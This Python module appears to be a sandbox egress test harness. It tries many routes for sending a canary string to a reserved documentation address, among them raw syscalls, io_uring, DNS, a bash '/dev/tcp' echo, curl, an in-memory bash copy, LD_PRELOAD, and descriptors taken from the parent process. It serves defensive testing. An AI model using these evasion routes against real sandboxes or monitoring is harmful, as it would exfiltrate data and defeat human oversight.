"""Ways to get a text out of a process, each with nothing but the standard library.

Loaded into processes of hybridgen: as code under test, by a test that is there already, and into
the command itself. Where a way is denied it raises OSError, or the program that it starts ends.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import mmap
import os
import platform
import shutil
import socket
import stat
import struct
import subprocess
import sys
from pathlib import Path

HOST, HOST6, PORT, WEB = "203.0.113.7", "2001:db8::7", 9, 80
"""Addresses that belong to nobody, for documentation."""

_SECONDS = 3.0
_X86 = platform.machine() == "x86_64"
_SOCKET, _CONNECT, _SENDTO = (41, 42, 44) if _X86 else (198, 203, 206)
_RING_SETUP, _RING_ENTER, _PIDFD_OPEN, _PIDFD_GETFD = 425, 426, 434, 438
_libc = ctypes.CDLL(None, use_errno=True)


class Catcher:
    """Where a text can be caught, besides on the wire.

    Attributes:
        datagrams: path of a unix datagram socket.
        stream: name of a unix stream socket in the abstract namespace.
        native: a library that sends what ``WAY_TEXT`` says when it is loaded; may be missing.
    """

    def __init__(self) -> None:
        described = json.loads(Path(__file__).with_name("catcher.json").read_text())
        self.datagrams: str = described["datagrams"]
        self.stream: str = "\0" + described["stream"]
        self.native: str = described["native"]


def _address() -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", PORT) + socket.inet_aton(HOST)


def _checked(answer: int) -> int:
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


def _call(number: int, *arguments: object) -> int:
    wide = [
        one if isinstance(one, (bytes, ctypes.Array)) else ctypes.c_long(one) for one in arguments
    ]
    return _checked(_libc.syscall(ctypes.c_long(number), *wide))


def tcp(text: bytes) -> None:
    with socket.create_connection((HOST, WEB), _SECONDS) as one:
        one.sendall(text)


def udp(text: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(text, (HOST, PORT))


def udp_over_ipv6(text: bytes) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.sendto(text, (HOST6, PORT))


def ping(text: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + text, (HOST, 0))


def frame(text: bytes) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as one:
        one.bind(("lo", 0))
        one.send(bytes(12) + b"\x88\xb5" + text)


def libc(text: bytes) -> None:
    number = _checked(_libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0))
    try:
        _checked(_libc.sendto(number, text, len(text), 0, _address() + bytes(8), 16))
    finally:
        os.close(number)


def system_call(text: bytes) -> None:
    number = _call(_SOCKET, socket.AF_INET, socket.SOCK_DGRAM, 0)
    try:
        _call(_CONNECT, number, _address() + bytes(8), 16)
        _call(_SENDTO, number, text, len(text), 0, 0, 0)
    finally:
        os.close(number)


def unix_datagram_pair(text: bytes) -> None:
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with left, right:
        left.sendto(text, Catcher().datagrams)


def unix_stream(text: bytes) -> None:
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(Catcher().stream)
        one.sendall(text)


def name_service(text: bytes) -> None:
    with contextlib.suppress(socket.gaierror):  # that nobody knows the name is no denial
        socket.getaddrinfo(f"{text.decode()}.example", WEB)


def shell(text: bytes) -> None:
    line = f"echo {text.decode()} > /dev/tcp/{HOST}/{WEB}"
    subprocess.run([_program("bash"), "-c", line], stderr=subprocess.DEVNULL, timeout=_SECONDS)


def curl(text: bytes) -> None:
    address = f"http://{HOST}/{text.decode()}"
    subprocess.run([_program("curl"), "-s", "-m", "2", address], timeout=_SECONDS)


def program_in_memory(text: bytes) -> None:
    number = os.memfd_create("x", 0)
    try:
        os.write(number, Path(_program("bash")).read_bytes())
        subprocess.run(
            [f"/proc/self/fd/{number}", "-c", f"echo {text.decode()} > /dev/udp/{HOST}/{PORT}"],
            pass_fds=(number,),
            stderr=subprocess.DEVNULL,
            timeout=_SECONDS,
        )
    finally:
        os.close(number)


def native_library(text: bytes) -> None:
    os.environ["WAY_TEXT"] = text.decode()
    try:
        ctypes.CDLL(Catcher().native)
    finally:
        del os.environ["WAY_TEXT"]


def preloaded_library(text: bytes) -> None:
    environment = {"LD_PRELOAD": Catcher().native, "WAY_TEXT": text.decode()}
    subprocess.run([_program("true")], env=environment, timeout=_SECONDS)


def ring(text: bytes) -> None:
    _Ring().send(text)


def inherited_descriptors(text: bytes) -> None:
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, text)


def descriptors_of_the_parent(text: bytes) -> None:
    parent = _call(_PIDFD_OPEN, os.getppid(), 0)
    for number in range(3, 64):
        try:
            stolen = _call(_PIDFD_GETFD, parent, number, 0)
        except OSError as problem:
            if problem.errno == 9:  # the parent has no such descriptor
                continue
            raise
        with contextlib.suppress(OSError):  # a socket that leads nowhere
            if stat.S_ISSOCK(os.fstat(stolen).st_mode):
                os.write(stolen, text)
        os.close(stolen)
    os.close(parent)


class _Ring:
    """As much of io_uring as sends one datagram, without one call about sockets."""

    _SQES, _OP_SOCKET, _OP_SENDMSG = 0x10000000, 45, 9

    def __init__(self) -> None:
        given = ctypes.create_string_buffer(120)
        self._ring = _call(_RING_SETUP, 4, given)
        numbers = struct.unpack("30I", given.raw)
        self._sq, self._cq = numbers[10:], numbers[20:]
        self._rings = mmap.mmap(self._ring, 4096, offset=0)  # both, since Linux 5.4
        self._entries = mmap.mmap(self._ring, 4096, offset=self._SQES)

    def send(self, text: bytes) -> None:
        number = self._ask(self._OP_SOCKET, socket.AF_INET, off=socket.SOCK_DGRAM)
        name = ctypes.create_string_buffer(_address() + bytes(8), 16)
        room = ctypes.create_string_buffer(text, len(text))
        piece = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(room), len(text)))
        message = ctypes.create_string_buffer(
            struct.pack(
                "QIxxxxQQQQQ", ctypes.addressof(name), 16, ctypes.addressof(piece), 1, *[0] * 3
            )
        )
        self._ask(self._OP_SENDMSG, number, addr=ctypes.addressof(message), length=1)
        os.close(number)
        os.close(self._ring)

    def _ask(self, operation: int, fd: int, off: int = 0, addr: int = 0, length: int = 0) -> int:
        tail = self._number(self._sq[1])
        slot = tail & self._number(self._sq[2])
        entry = struct.pack("BBHiQQIIQ", operation, 0, 0, fd, off, addr, length, 0, 0)
        self._entries[slot * 64 : slot * 64 + 64] = entry.ljust(64, b"\0")
        self._rings[self._sq[6] + slot * 4 : self._sq[6] + slot * 4 + 4] = struct.pack("I", slot)
        self._rings[self._sq[1] : self._sq[1] + 4] = struct.pack("I", tail + 1)
        _call(_RING_ENTER, self._ring, 1, 1, 1, 0, 0)
        head = self._number(self._cq[0])
        place = self._cq[5] + (head & self._number(self._cq[2])) * 16
        answer: int = struct.unpack_from("Qi", self._rings, place)[1]
        self._rings[self._cq[0] : self._cq[0] + 4] = struct.pack("I", head + 1)
        if answer < 0:
            raise OSError(-answer, os.strerror(-answer))
        return answer

    def _number(self, place: int) -> int:
        return int(struct.unpack_from("I", self._rings, place)[0])


WAYS = (
    *(tcp, udp, udp_over_ipv6, ping, frame, libc, system_call, ring),
    *(unix_datagram_pair, unix_stream, name_service, shell, curl, program_in_memory),
    *(native_library, preloaded_library, inherited_descriptors, descriptors_of_the_parent),
)


def _program(name: str) -> str:
    found = shutil.which(name, path=os.defpath)
    if found is None:
        raise FileNotFoundError(2, name)
    return found


def text_of(place: str, way: str) -> str:
    """What ``way`` sends from ``place``; it is in no file as it is."""
    return "-".join(["zebra", place, way.replace("_", "-")])


def attack(place: str) -> None:
    """Tries all ways, whatever becomes of each."""
    for way in WAYS:
        with contextlib.suppress(Exception):
            way(text_of(place, way.__name__).encode())


def become(place: str) -> None:
    """Becomes the only program that a runner may become, with a library of its own."""
    text = text_of(place, "become")
    environment = {"LD_PRELOAD": Catcher().native, "WAY_TEXT": text}
    for number in range(3, 256):  # while these are open, nobody notices that it ended
        with contextlib.suppress(OSError):
            os.set_inheritable(number, True)
    os.execve(sys.executable, [sys.executable, "-I", "-S", "-c", ""], environment)


if __name__ == "__main__":
    attack(sys.argv[1])
